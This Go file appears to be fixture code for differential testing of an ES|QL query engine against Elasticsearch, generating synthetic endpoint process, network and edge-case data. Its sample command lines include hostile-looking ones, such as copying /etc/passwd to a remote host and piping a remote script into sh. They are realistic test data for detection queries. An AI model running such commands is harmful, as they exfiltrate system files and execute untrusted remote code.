package differential

import (
	"encoding/json"
	"fmt"
	"math"
	"math/rand/v2"
	"net/netip"
	"slices"
	"strings"
	"time"

	"interdict/sources/esql"
	"interdict/sources/frame"
)

// index is rows as both sides get them: documents for Elasticsearch, a frame for the engine.
type index struct {
	name   string
	mode   string // "lookup" or ""
	fields []frame.Field
	frame  *frame.Frame
	docs   []string
}

// field is a column of an index and how its values are made: nil is null, and a
// []any holds several.
type field struct {
	name, mapping string
	value         func(r *rand.Rand, i int) any
}

func makeIndex(name string, rows int, fields []field) index {
	x := index{name: name}
	for _, f := range fields {
		t, ok := frame.ParseType(f.mapping)
		if !ok {
			panic(f.mapping)
		}
		x.fields = append(x.fields, frame.Field{Name: f.name, Type: t})
	}
	meta := []frame.Field{{Name: "_id", Type: frame.Keyword}, {Name: "_index", Type: frame.Keyword}, {Name: "_version", Type: frame.Long}}
	b := frame.NewBuilder(append(slices.Clone(x.fields), meta...))
	r := rand.New(rand.NewPCG(7, uint64(len(name))))
	for i := range rows {
		b.Row()
		doc := map[string]any{}
		for c, f := range fields {
			v := f.value(r, i)
			if v == nil {
				continue
			}
			doc[f.name] = v
			many, ok := v.([]any)
			if !ok {
				many = []any{v}
			}
			for _, one := range many {
				set(b, c, x.fields[c].Type, one)
			}
		}
		b.Keyword(len(fields), fmt.Sprint(i))
		b.Keyword(len(fields)+1, name)
		b.Int(len(fields)+2, 1)
		text, err := json.Marshal(doc)
		if err != nil {
			panic(err)
		}
		x.docs = append(x.docs, string(text))
	}
	x.frame = b.Build()
	return x
}

func set(b *frame.Builder, c int, t frame.Type, v any) {
	switch v := v.(type) {
	case string:
		switch t {
		case frame.IP:
			b.IP(c, netip.MustParseAddr(v))
		case frame.Date, frame.DateNanos:
			at, err := time.Parse(time.RFC3339Nano, v)
			if err != nil {
				panic(err)
			}
			b.Time(c, at)
		default:
			b.Keyword(c, v)
		}
	case bool:
		b.Bool(c, v)
	case float64:
		b.Float(c, v)
	case int64:
		b.Int(c, v)
	case uint64:
		b.Int(c, int64(v))
	default:
		panic(fmt.Sprintf("%T", v))
	}
}

// mapping is the create request of the index.
func (x index) mapping(fields []field) string {
	props := map[string]any{}
	for _, f := range fields {
		props[f.name] = map[string]any{"type": f.mapping}
	}
	settings := map[string]any{"number_of_shards": 1, "number_of_replicas": 0}
	if x.mode != "" {
		settings["mode"] = x.mode
	}
	text, err := json.Marshal(map[string]any{"settings": map[string]any{"index": settings}, "mappings": map[string]any{"dynamic": false, "subobjects": false, "properties": props}})
	if err != nil {
		panic(err)
	}
	return string(text)
}

func of[T any](values ...T) func(*rand.Rand, int) any {
	return func(r *rand.Rand, _ int) any { return values[r.IntN(len(values))] }
}

// seldom is null in one of n rows.
func seldom(n int, f func(*rand.Rand, int) any) func(*rand.Rand, int) any {
	return func(r *rand.Rand, i int) any {
		if r.IntN(n) == 0 {
			return nil
		}
		return f(r, i)
	}
}

// some gives up to most values, one in most cases.
func some(most int, f func(*rand.Rand, int) any) func(*rand.Rand, int) any {
	return func(r *rand.Rand, i int) any {
		n := r.IntN(2*most) - most
		if n <= 1 {
			return f(r, i)
		}
		var many []any
		for range n {
			if v := f(r, i); v != nil {
				many = append(many, v)
			}
		}
		if len(many) == 0 {
			return nil
		}
		return many
	}
}

var began = time.Date(2024, 3, 4, 5, 6, 7, 0, time.UTC)

func at(step, jitter time.Duration, layout string) func(*rand.Rand, int) any {
	return func(r *rand.Rand, i int) any {
		return began.Add(time.Duration(i)*step + time.Duration(r.Int64N(int64(jitter)))).Format(layout)
	}
}

const (
	millis = "2006-01-02T15:04:05.000Z"
	nanos  = "2006-01-02T15:04:05.000000000Z"
)

// oddities are strings on which engines tend to differ.
var oddities = []string{"", " ", "a", "A", "ä", "a\u0308", "ß", "SS", "*", "?", `\`, "a*b", `a\b`, "a.b", "(x)", "1", "1.0", "-7", "007", "1e3", "true", "TRUE", "null",
	"10.0.0.1", "1.2.3", "2024-03-04", "2024-03-04T05:06:07.000Z", "line\none", "tab\there", "  padded\u00a0", "日本", "👩‍💻", "İ", "ﬁ", "a,b,,c", "k=v; k2=v2",
	`{"a":{"b":[1,2]}}`, "%41+b", "https://user@example.org:8080/p?q=1", "GET /x HTTP/1.1 200", "9223372036854775807", "9223372036854775808", "NaN", "\U0001F600x", "x'y\"z"}

var commonFields = []field{
	{"@timestamp", "date", at(time.Minute, time.Hour, millis)},
	{"event.ingested", "date", seldom(9, at(time.Minute, 3*time.Hour, millis))},
	{"event.kind", "keyword", of("event")},
	{"host.os.type", "keyword", of("linux", "linux", "linux", "windows", "macos")},
	{"host.name", "keyword", of("web-1", "web-2", "db-1", "build-7")},
	{"agent.id", "keyword", of("a1", "a2", "a3")},
	{"data_stream.dataset", "keyword", of("endpoint.events")},
	{"user.name", "keyword", seldom(7, of("root", "alice", "bob", "www-data"))},
}

var processFields = append(slices.Clone(commonFields), []field{
	{"event.action", "keyword", some(3, of("exec", "fork", "end", "exec"))},
	{"event.type", "keyword", some(2, of("start", "end"))},
	{"event.category", "keyword", some(2, of("process", "intrusion"))},
	{"process.name", "keyword", of("scp", "rsync", "sftp", "bash", "sh", "curl", "Curl", "python3", "base64")},
	{"process.executable", "keyword", seldom(20, of("/usr/bin/scp", "/usr/bin/rsync", "/tmp/x", "/dev/shm/.a", "/home/bob/a.sh", "./run"))},
	{"process.parent.name", "keyword", seldom(5, of("bash", "sh", ".hidden", "x.elf", "deploy.sh", "cron"))},
	{"process.parent.executable", "keyword", seldom(5, of("/bin/bash", "/tmp/y", "/var/www/z", "/usr/sbin/cron"))},
	{"process.command_line", "keyword", seldom(11, of("scp -r /etc/passwd bob@10.1.2.3:/x", "rsync -a . h::m", "curl -T f https://example.org/up?x=1&y=2", "bash -c 'echo aGVsbG8= | base64 -d'",
		"echo   padded     text", "curl http://1.2.3.4/a.sh|sh", "ls"))},
	{"process.args", "keyword", some(4, of("-r", "-a", "scp", "/etc/passwd", "bob@10.1.2.3:/x", "-r"))},
	{"process.pid", "long", func(_ *rand.Rand, i int) any { return int64(1000 + i) }},
	{"process.exit_code", "integer", seldom(3, of[int64](0, 1, 2, 127, -1, 137, math.MaxInt32, math.MinInt32))},
	{"process.uptime", "double", seldom(4, of(0.0, 1.5, -2.25, 1e-7, 1e15, 3.999999, 1e300))},
	{"process.interactive", "boolean", seldom(4, of(true, false))},
	{"process.entity_id", "keyword", func(_ *rand.Rand, i int) any { return fmt.Sprintf("e%04d", i) }},
}...)

var networkFields = append(slices.Clone(commonFields), []field{
	{"event.action", "keyword", some(2, of("connection_attempted", "disconnect_received"))},
	{"event.type", "keyword", of("start", "end")},
	{"process.name", "keyword", of("scp", "ssh", "curl", "nc")},
	{"process.pid", "long", of[int64](1000, 1001, 1002, 1003)},
	{"process.executable", "keyword", of("/usr/bin/scp", "/usr/bin/ssh", "/tmp/x")},
	{"source.ip", "ip", of("10.0.0.5", "10.0.0.6")},
	{"destination.ip", "ip", seldom(9, some(2, of("10.1.2.3", "192.168.0.9", "8.8.8.8", "2001:db8::1", "::1", "127.0.0.1", "::ffff:1.2.3.4")))},
	{"destination.port", "long", seldom(9, of[int64](22, 443, 80, 8080, 65535))},
	{"network.bytes", "long", seldom(6, of[int64](0, 1, 1500, 1<<40, math.MaxInt64, -5))},
}...)

// kindFields has every type, with several values, nulls and odd ones.
var kindFields = []field{
	{"id", "integer", func(_ *rand.Rand, i int) any { return int64(i) }},
	{"kw", "keyword", of(oddities...)},
	{"kws", "keyword", seldom(6, some(4, of(oddities...)))},
	{"txt", "text", seldom(6, of("the quick brown fox", "Quick", "fox jumps", ""))},
	{"i", "integer", seldom(6, of[int64](0, 1, -1, 2, 7, 10, 1000, math.MaxInt32, math.MinInt32))},
	{"im", "integer", seldom(6, some(4, of[int64](0, 1, -1, 3, 3, 50, math.MaxInt32)))},
	{"l", "long", seldom(6, of[int64](0, 1, -1, 5, 86400000, 1709528767000, math.MaxInt64, math.MinInt64))},
	{"ls", "long", seldom(6, some(3, of[int64](0, 1, -1, 5, 5, math.MaxInt64)))},
	{"d", "double", seldom(6, of(0.0, 1.0, -1.5, 2.5, 3.5, 0.1, 1e10, 123456.789, -1e-9, 1e300))},
	{"ds", "double", seldom(6, some(3, of(0.0, 1.0, -1.5, 2.5, 2.5, 0.1)))},
	{"b", "boolean", seldom(6, of(true, false))},
	{"bs", "boolean", seldom(6, some(3, of(true, false)))},
	{"t", "date", seldom(6, of("2024-03-04T05:06:07.000Z", "1970-01-01T00:00:00.000Z", "1969-12-31T23:59:59.999Z", "2024-02-29T12:00:00.500Z", "2023-12-31T23:59:59.999Z", "2262-04-11T00:00:00.000Z"))},
	{"ts", "date", seldom(6, some(3, of("2024-03-04T05:06:07.000Z", "2024-01-01T00:00:00.000Z", "2023-07-15T10:00:00.000Z")))},
	{"n", "date_nanos", seldom(6, of("2024-03-04T05:06:07.123456789Z", "2024-03-04T05:06:07.000000000Z", "1970-01-01T00:00:00.000000001Z", "2023-12-31T23:59:59.999999999Z"))},
	{"ip", "ip", seldom(6, of("10.0.0.1", "10.0.0.255", "192.168.1.1", "2001:db8::1", "::1", "0.0.0.0", "::ffff:7f00:1", "fe80::1"))},
	{"ips", "ip", seldom(6, some(3, of("10.0.0.1", "10.0.0.2", "::1", "9.9.9.9")))},
	{"ns", "date_nanos", seldom(6, some(3, of("2024-03-04T05:06:07.123456789Z", "2023-01-01T00:00:00.000000005Z", "1999-12-31T23:59:59.999999999Z")))},
	{"ut", "keyword", seldom(6, of("0", "1", "7", "9223372036854775807", "9223372036854775808", "18446744073709551615"))},
	{"uts", "keyword", seldom(6, some(3, of("0", "3", "3", "9223372036854775808", "18446744073709551615")))},
	{"vs", "version", seldom(6, some(3, of("1.2.3", "1.10.0", "2.0.0", "x")))},
	{"v", "version", seldom(6, of("1.2.3", "1.10.0", "1.2.3-beta", "1.2.3-alpha.1", "2.0", "x", "1.2.3+build"))},
	{"none", "keyword", func(*rand.Rand, int) any { return nil }},
	{"none_l", "long", func(*rand.Rand, int) any { return nil }},
	{"log", "keyword", func(r *rand.Rand, i int) any {
		return fmt.Sprintf("%s 10.0.0.%d - user%d [%s] took=%d.%dms", at(time.Minute, time.Hour, millis)(r, i), r.IntN(9), r.IntN(5), strings.Repeat("x", r.IntN(3)), r.IntN(900), r.IntN(10))
	}},
}

var assetFields = []field{
	{"host.name", "keyword", func(_ *rand.Rand, i int) any { return []string{"web-1", "web-2", "db-1", "db-1", "nowhere"}[i] }},
	{"owner", "keyword", func(_ *rand.Rand, i int) any { return []any{"alice", "bob", "carol", "dave", "eve"}[i] }},
	{"tier", "integer", func(_ *rand.Rand, i int) any { return []any{int64(1), nil, int64(3), int64(4), int64(5)}[i] }},
}

var placeFields = []field{
	{"i", "integer", func(_ *rand.Rand, i int) any {
		return []any{int64(1), int64(2), int64(2), int64(-1), nil, int64(math.MaxInt32)}[i]
	}},
	{"place", "keyword", func(_ *rand.Rand, i int) any {
		return []any{"one", "two", []any{"zwei", "deux"}, "minus", "nowhere", nil}[i]
	}},
	{"since", "date", func(_ *rand.Rand, i int) any {
		return []any{"2024-01-01T00:00:00.000Z", nil, "2024-02-29T12:00:00.500Z", "1999-12-31T00:00:00.000Z", "2024-01-01T00:00:00.000Z", "2024-01-01T00:00:00.000Z"}[i]
	}},
	{"net", "ip", of("10.0.0.1", "::1")},
}

// world is all indices of the comparison.
type world map[string]index

func makeWorld() (world, map[string]string) {
	w, requests := world{}, map[string]string{}
	for _, spec := range []struct {
		name, mode string
		rows       int
		fields     []field
	}{
		{"logs-endpoint.events.process-default", "", 300, processFields},
		{"logs-endpoint.events.network-default", "", 120, networkFields},
		{"kinds", "", 200, kindFields},
		{"assets", "lookup", 5, assetFields},
		{"places", "lookup", 6, placeFields},
	} {
		x := makeIndex(spec.name, spec.rows, spec.fields)
		x.mode = spec.mode
		w[spec.name], requests[spec.name] = x, x.mapping(spec.fields)
	}
	return w, requests
}

// Table is that of all indices which the patterns name.
func (w world) Table(patterns string) (esql.Table, bool) {
	var t table
	for _, name := range slices.Sorted(func(yield func(string) bool) {
		for n := range w {
			if esql.MatchIndex(patterns, n) && !yield(n) {
				return
			}
		}
	}) {
		x := w[name]
		for _, f := range x.fields {
			if !slices.Contains(t.fields, f) {
				t.fields = append(t.fields, f)
			}
		}
		t.segments = append(t.segments, segment{x.frame})
	}
	return t, len(t.segments) > 0
}

// Lookup finds what LOOKUP JOIN names: an index of that mode.
func (w world) Lookup(name string) (t esql.Table, match string, ok bool) {
	if w[name].mode != "lookup" {
		return nil, "", false
	}
	t, ok = w.Table(name)
	return t, "", ok
}
